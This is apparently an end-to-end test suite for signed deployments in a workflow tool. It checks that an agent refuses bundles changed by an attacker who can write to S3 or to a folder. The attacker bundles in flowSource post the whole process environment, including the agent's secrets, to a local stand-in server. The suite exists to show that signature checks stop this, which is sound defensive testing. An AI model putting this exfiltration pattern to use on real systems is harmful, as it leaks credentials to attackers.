import { type ChildProcess, spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import {
  CreateBucketCommand,
  DeleteObjectCommand,
  GetObjectCommand,
  PutObjectCommand,
  S3Client,
} from "@aws-sdk/client-s3";
import { openRunQueue, type RunQueue } from "@tributary/agent";
import type { RunReport } from "@tributary/flow";
import { type AwsKeyPair, type RedisServer, startMoto, startRedis } from "@tributary/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { agentReady, BIN, type CliResult, collectOutput } from "../test/helpers.js";

// Issue 24, end to end: an owner signs deployments with `tributary deploy --sign`; an attacker who can write to the
// storage (a second IAM user on moto, or the folder) but holds no signing key changes them; an agent started with
// --trust-key and -e secrets refuses every changed one before importing it. Every bundle here writes a marker file
// when imported or run, and every attacker's bundle posts the run's environment (where the agent's -e secrets are) to
// a server the attacker controls: neither may happen.

const PREFIX = "TRIBUTARY__CONTEXT__SECRETS__";
const CLI_MODULES = join(dirname(BIN), "..", "node_modules");

let redis: RedisServer;
const folders: string[] = [];
const agents: ChildProcess[] = [];
const queues: RunQueue[] = [];

/** The attacker's endpoint: every request body it receives. */
let received: string[] = [];
let attackerServer: Server;
let attackerUrl: string;

beforeAll(async () => {
  redis = await startRedis();
  attackerServer = createServer((req, res) => {
    let body = "";
    req.on("data", (c) => {
      body += c;
    });
    req.on("end", () => {
      received.push(body);
      res.end("ok");
    });
  });
  await new Promise<void>((resolve) => attackerServer.listen(0, "127.0.0.1", resolve));
  attackerUrl = `http://127.0.0.1:${(attackerServer.address() as AddressInfo).port}/`;
});

afterAll(async () => {
  for (const child of agents) if (child.exitCode === null) child.kill("SIGKILL");
  for (const q of queues) await q.close();
  await redis?.close();
  await new Promise((resolve) => attackerServer?.close(resolve));
  for (const f of folders.splice(0)) rmSync(f, { recursive: true, force: true });
});

function tempDir(label: string): string {
  const dir = mkdtempSync(join(tmpdir(), `tributary-signed-${label}-`));
  folders.push(dir);
  return dir;
}

/** Runs the CLI in `cwd` with exactly `env` (plus PATH): nothing of this process's environment is inherited. */
function cli(args: readonly string[], cwd: string, env: Record<string, string>): Promise<CliResult> {
  const child = spawn(process.execPath, [BIN, ...args], {
    cwd,
    env: { PATH: process.env.PATH ?? "", ...env },
    stdio: ["ignore", "pipe", "pipe"],
  });
  return collectOutput(child);
}

/** Where one storage keeps deployments, and how its owner, its attacker and its agent reach it. */
interface Target {
  /** The storage addresses of production and development. */
  prod: string;
  dev: string;
  /** The env of the owner's and the attacker's `tributary deploy` (their storage credential, endpoints). */
  ownerEnv: Record<string, string>;
  attackerEnv: Record<string, string>;
  /** The agent's env and its -e options (beside -e AGENT_TOKEN), and its isolation. */
  agentEnv: Record<string, string>;
  agentArgs: string[];
  /** The attacker's own reads and writes of the storage, by key (`prod/nightly/flow.mjs`). */
  read(key: string): Promise<Buffer>;
  write(key: string, bytes: Buffer): Promise<void>;
  remove(key: string): Promise<void>;
  close(): Promise<void>;
}

async function fileTarget(): Promise<Target> {
  const root = tempDir("storage");
  return {
    prod: `file://${root}/prod/`,
    dev: `file://${root}/dev/`,
    ownerEnv: {},
    attackerEnv: {},
    agentEnv: {},
    agentArgs: [],
    read: async (key) => readFileSync(join(root, key)),
    write: async (key, bytes) => {
      mkdirSync(dirname(join(root, key)), { recursive: true });
      writeFileSync(join(root, key), bytes);
    },
    remove: async (key) => rmSync(join(root, key)),
    close: async () => {},
  };
}

async function motoTarget(): Promise<Target> {
  const moto = await startMoto();
  const s3 = (credentials: AwsKeyPair) =>
    new S3Client({ endpoint: moto.url, forcePathStyle: true, region: "us-east-1", credentials });
  await s3(moto.keyPair).send(new CreateBucketCommand({ Bucket: "flows" }));
  const bucket = ["arn:aws:s3:::flows", "arn:aws:s3:::flows/*"];
  const policy = (actions: string[]) => ({
    Version: "2012-10-17",
    Statement: [{ Effect: "Allow", Action: actions, Resource: bucket }],
  });
  // The attacker may write to the bucket; the agent's credential may only read it.
  const attacker = await moto.createUser(
    "attacker",
    policy(["s3:GetObject", "s3:PutObject", "s3:DeleteObject", "s3:ListBucket"]),
  );
  const reader = await moto.createUser("agent-reader", policy(["s3:GetObject", "s3:ListBucket"]));
  const attackerS3 = s3(attacker);
  const aws = (key: AwsKeyPair) => ({
    AWS_ENDPOINT_URL_S3: moto.url,
    AWS_EC2_METADATA_DISABLED: "true",
    AWS_CONFIG_FILE: join(tmpdir(), "no-aws-config"),
    AWS_SHARED_CREDENTIALS_FILE: join(tmpdir(), "no-aws-credentials"),
    [`${PREFIX}AWS_CREDENTIALS`]: JSON.stringify({
      ACCESS_KEY: key.accessKeyId,
      SECRET_ACCESS_KEY: key.secretAccessKey,
    }),
  });
  return {
    prod: "s3://flows/prod/",
    dev: "s3://flows/dev/",
    ownerEnv: aws(moto.keyPair),
    attackerEnv: aws(attacker),
    agentEnv: aws(reader),
    // In the agent's process: a child-process run gets only -e secrets, not the endpoint of this moto.
    agentArgs: ["-e", "AWS_CREDENTIALS", "--isolation", "in-process"],
    read: async (key) => {
      const got = await attackerS3.send(new GetObjectCommand({ Bucket: "flows", Key: key }));
      return Buffer.from((await got.Body?.transformToByteArray()) ?? []);
    },
    write: async (key, bytes) => {
      await attackerS3.send(new PutObjectCommand({ Bucket: "flows", Key: key, Body: bytes }));
    },
    remove: async (key) => {
      await attackerS3.send(new DeleteObjectCommand({ Bucket: "flows", Key: key }));
    },
    close: () => moto.close(),
  };
}

/**
 * A flow module. Each variant writes `<markers>/<variant>` when imported and when run; an attacker's also posts the
 * process's environment (with the agent's -e secrets) to the attacker's server, at import and at run.
 */
function flowSource(name: string, variant: string, markers: string, evil: boolean): string {
  const exfiltrate = evil
    ? `await fetch(${JSON.stringify(attackerUrl)}, { method: "POST", body: JSON.stringify(process.env) }).catch(() => {});`
    : "";
  return `import { flow } from "@tributary/flow";
import { appendFileSync } from "node:fs";
appendFileSync(${JSON.stringify(join(markers, variant))}, "imported\\n");
${exfiltrate}
export const main = flow({ name: ${JSON.stringify(name)} }, async () => {
  appendFileSync(${JSON.stringify(join(markers, variant))}, "ran\\n");
  ${exfiltrate}
  return ${JSON.stringify(variant)};
});
`;
}

interface Scene {
  target: Target;
  dir: string;
  markers: string;
  ownerHome: string;
  attackerHome: string;
  ownerKey: string;
  queue: RunQueue;
  queueName: string;
  agent: { stderr(): string; child: ChildProcess };
}

let scenes = 0;

async function scene(target: Target, trustKeyFiles: string[], ownerHome?: string): Promise<Scene> {
  const dir = tempDir("project");
  symlinkSync(CLI_MODULES, join(dir, "node_modules"), "dir");
  writeFileSync(join(dir, "package.json"), JSON.stringify({ name: "flows", private: true, type: "module" }));
  const markers = join(dir, "markers");
  mkdirSync(markers);
  const home = ownerHome ?? join(dir, "owner-home");
  const ownerKey = join(dir, "release.pub");
  if (!ownerHome) {
    const made = await cli(["keys", "generate", "--name", "release", "--out", ownerKey], dir, {
      TRIBUTARY_HOME: home,
    });
    expect(made.code, made.stderr).toBe(0);
  }
  const queueName = `signed-${++scenes}`;
  const agent = await startAgent(
    dir,
    [
      "--queue",
      queueName,
      ...trustKeyFiles.flatMap((f) => ["--trust-key", f === "owner" ? ownerKey : f]),
      "-e",
      "AGENT_TOKEN",
      ...target.agentArgs,
    ],
    target.agentEnv,
  );
  const queue = openRunQueue({ queue: queueName, redis: redis.url });
  queues.push(queue);
  return {
    target,
    dir,
    markers,
    ownerHome: home,
    attackerHome: join(dir, "attacker-home"),
    ownerKey,
    queue,
    queueName,
    agent,
  };
}

const agentToken = `agent-token-${randomBytes(12).toString("hex")}`;

async function startAgent(cwd: string, args: string[], env: Record<string, string>) {
  const child = spawn(process.execPath, [BIN, "agent", "start", "--redis", redis.url, ...args], {
    cwd,
    env: {
      PATH: process.env.PATH ?? "",
      TRIBUTARY_HOME: join(cwd, "agent-home"),
      HOME: cwd,
      [`${PREFIX}AGENT_TOKEN`]: agentToken,
      ...env,
    },
    stdio: ["ignore", "pipe", "pipe"],
  });
  agents.push(child);
  const { stderr } = await agentReady(child);
  return { child, stderr };
}

/** `tributary deploy` of a variant of flow `name` to `storage`, by the owner (signed) or the attacker. */
async function deploy(
  s: Scene,
  who: "owner" | "attacker",
  variant: string,
  storage: string,
  options: { sign?: boolean; name?: string } = {},
): Promise<string> {
  const file = join(s.dir, `${variant}.ts`);
  writeFileSync(file, flowSource(options.name ?? "nightly", variant, s.markers, who === "attacker"));
  const env =
    who === "owner"
      ? { TRIBUTARY_HOME: s.ownerHome, ...s.target.ownerEnv }
      : { TRIBUTARY_HOME: s.attackerHome, ...s.target.attackerEnv };
  const args = ["deploy", file, "--storage", storage, "--json", ...(options.sign ? ["--sign"] : [])];
  const result = await cli(args, s.dir, env);
  expect(result.code, result.stderr).toBe(0);
  return (JSON.parse(result.stdout) as { address: string }).address;
}

/** Queues a run of `address` on the scene's agent and waits for its report. */
async function runOnAgent(s: Scene, address: string): Promise<RunReport> {
  const { runId } = await s.queue.enqueue({ address, secrets: [] });
  return s.queue.wait(runId, { timeoutMs: 60_000 });
}

const files = ["flow.mjs", "manifest.sig.json", "manifest.json"];

/** Every marker file and what it holds: a bundle imported or run anywhere adds a line. */
function markerState(s: Scene): Record<string, string> {
  return Object.fromEntries(readdirSync(s.markers).map((f) => [f, readFileSync(join(s.markers, f), "utf8")]));
}

type Attack = (s: Scene) => Promise<void>;
const attacks: [string, string, Attack][] = [
  [
    "bundle and manifest rewritten with a consistent sha256",
    "digest-mismatch",
    async (s) => {
      await deploy(s, "attacker", "evil-rewrite", s.target.prod);
    },
  ],
  [
    "the signature stripped",
    "unsigned",
    async (s) => {
      await deploy(s, "attacker", "evil-strip", s.target.prod);
      await s.target.remove("prod/nightly/manifest.sig.json");
    },
  ],
  [
    "one byte of the bundle changed",
    "digest-mismatch",
    async (s) => {
      const bytes = await s.target.read("prod/nightly/flow.mjs");
      // "owner-…" becomes "nwner-…": still a valid module, writing another marker.
      const at = bytes.indexOf("owner-");
      bytes.writeUInt8((bytes[at] as number) ^ 1, at);
      await s.target.write("prod/nightly/flow.mjs", bytes);
    },
  ],
  [
    "a valid signature of another flow copied in",
    "digest-mismatch",
    async (s) => {
      await deploy(s, "owner", "owner-other", s.target.prod, { sign: true, name: "other" });
      await deploy(s, "attacker", "evil-copied-signature", s.target.prod);
      await s.target.write(
        "prod/nightly/manifest.sig.json",
        await s.target.read("prod/other/manifest.sig.json"),
      );
    },
  ],
  [
    "a deployment signed for dev copied to prod",
    "wrong-address",
    async (s) => {
      await deploy(s, "owner", "owner-dev-build", s.target.dev, { sign: true });
      for (const file of files) {
        await s.target.write(`prod/nightly/${file}`, await s.target.read(`dev/nightly/${file}`));
      }
    },
  ],
  [
    "a deployment signed with the attacker's own key",
    "unknown-key",
    async (s) => {
      const made = await cli(["keys", "generate", "--name", "release"], s.dir, {
        TRIBUTARY_HOME: s.attackerHome,
      });
      expect(made.code, made.stderr).toBe(0);
      await deploy(s, "attacker", "evil-own-key", s.target.prod, { sign: true });
    },
  ],
];

const targets: [string, () => Promise<Target>][] = [
  ["file storage", fileTarget],
  ["S3 on moto with IAM (the attacker is a second IAM user)", motoTarget],
];

describe.each(targets)("signed deployments on %s", (_, start) => {
  let target: Target;
  let s: Scene;
  let prodAddress: string;
  beforeAll(async () => {
    target = await start();
    s = await scene(target, ["owner"]);
    // The owner's signed deployment and a signed one of another flow beside it.
    prodAddress = await deploy(s, "owner", "owner-0", target.prod, { sign: true });
  }, 120_000);
  afterAll(() => target?.close());

  it("the agent says which keys it trusts, and runs a correctly signed deployment", async () => {
    expect(s.agent.stderr()).toMatch(
      /runs only deployments signed by key [0-9a-f]{16} \(release\) \(from --trust-key\)/,
    );
    const report = await runOnAgent(s, prodAddress);
    expect(report).toMatchObject({ state: "completed", result: "owner-0" });
    // Imported once by `tributary deploy` (to find the flow), then imported and run by the agent's run.
    expect(readFileSync(join(s.markers, "owner-0"), "utf8")).toBe("imported\nimported\nran\n");
    const verified = await cli(["verify", prodAddress, "--trust-key", s.ownerKey, "--json"], s.dir, {
      TRIBUTARY_HOME: s.ownerHome,
      ...target.agentEnv,
    });
    expect(verified.code, verified.stderr).toBe(0);
    expect(JSON.parse(verified.stdout)).toMatchObject({
      trusted: true,
      address: prodAddress,
      label: "release",
      keyId: expect.stringMatching(/^[0-9a-f]{16}$/),
    });
  });

  it.each(attacks)(
    "refuses %s (%s): the bundle never ran and no secret left",
    async (name, reason, attack) => {
      const variant = `owner-${attacks.findIndex((a) => a[0] === name) + 1}`;
      await deploy(s, "owner", variant, target.prod, { sign: true });
      await attack(s);
      const before = markerState(s);
      received = [];
      const report = await runOnAgent(s, prodAddress);
      expect(report.state).toBe("failed");
      expect(report.error).toMatchObject({ name: "DeploymentError", code: "UNTRUSTED_DEPLOYMENT" });
      expect(report.error?.message).toContain(`not trusted (${reason})`);
      expect(markerState(s)).toEqual(before);
      expect(received).toEqual([]);
      // `tributary verify` gives the same reason, and exits 1.
      const verified = await cli(["verify", prodAddress, "--trust-key", s.ownerKey, "--json"], s.dir, {
        TRIBUTARY_HOME: s.ownerHome,
        ...target.agentEnv,
      });
      expect(verified.code).toBe(1);
      expect(JSON.parse(verified.stdout)).toMatchObject({ trusted: false, reason });
    },
  );

  it("without a trust policy the same tampering runs and leaks the agent's secret (what the policy stops)", async () => {
    await deploy(s, "owner", "owner-control", target.prod, { sign: true });
    await deploy(s, "attacker", "evil-control", target.prod);
    received = [];
    const result = await cli(["run", prodAddress, "--json"], s.dir, {
      TRIBUTARY_HOME: join(s.dir, "agent-home"),
      [`${PREFIX}AGENT_TOKEN`]: agentToken,
      ...target.agentEnv,
    });
    expect(result.stderr).toContain("note: deployments are not verified");
    expect(JSON.parse(result.stdout)).toMatchObject({ state: "completed", result: "evil-control" });
    expect(readFileSync(join(s.markers, "evil-control"), "utf8")).toBe("imported\nimported\nran\n");
    expect(received.join("\n")).toContain(agentToken);
  });

  it("an agent with two queued runs, one tampered: the good one completes, the other fails, the agent goes on", async () => {
    const good = await deploy(s, "owner", "owner-good", target.prod, { sign: true, name: "good" });
    await deploy(s, "owner", "owner-tampered", target.prod, { sign: true });
    await deploy(s, "attacker", "evil-queued", target.prod);
    received = [];
    const first = await s.queue.enqueue({ address: prodAddress, secrets: [] });
    const second = await s.queue.enqueue({ address: good, secrets: [] });
    const [tampered, fine] = await Promise.all([
      s.queue.wait(first.runId, { timeoutMs: 60_000 }),
      s.queue.wait(second.runId, { timeoutMs: 60_000 }),
    ]);
    expect(tampered).toMatchObject({ state: "failed", error: { code: "UNTRUSTED_DEPLOYMENT" } });
    expect(fine).toMatchObject({ state: "completed", result: "owner-good" });
    expect(readFileSync(join(s.markers, "evil-queued"), "utf8")).toBe("imported\n"); // by the attacker's deploy
    expect(received).toEqual([]);
    expect(s.agent.child.exitCode).toBe(null);
    // And it takes the next run.
    const next = await runOnAgent(s, good);
    expect(next.state).toBe("completed");
  });

  it("after a rotation the old deployment is refused and a redeploy signed with the new key runs", async () => {
    await deploy(s, "owner", "owner-before-rotation", target.prod, { sign: true });
    const deployed = markerState(s);
    // The new key replaces the old one in the owner's store; agents trust only the new public key.
    const rotatedKey = join(s.dir, "release-2.pub");
    const made = await cli(
      ["keys", "generate", "--name", "release-2", "--out", rotatedKey, "--force"],
      s.dir,
      { TRIBUTARY_HOME: s.ownerHome },
    );
    expect(made.code, made.stderr).toBe(0);
    const rotated = await scene(target, [rotatedKey], s.ownerHome);
    const old = await runOnAgent(rotated, prodAddress);
    expect(old).toMatchObject({ state: "failed", error: { code: "UNTRUSTED_DEPLOYMENT" } });
    expect(old.error?.message).toContain("not trusted (unknown-key)");
    expect(markerState(s)).toEqual(deployed);
    await deploy({ ...rotated, markers: s.markers }, "owner", "owner-after-rotation", target.prod, {
      sign: true,
    });
    const again = await runOnAgent(rotated, prodAddress);
    expect(again).toMatchObject({ state: "completed", result: "owner-after-rotation" });
  });
});
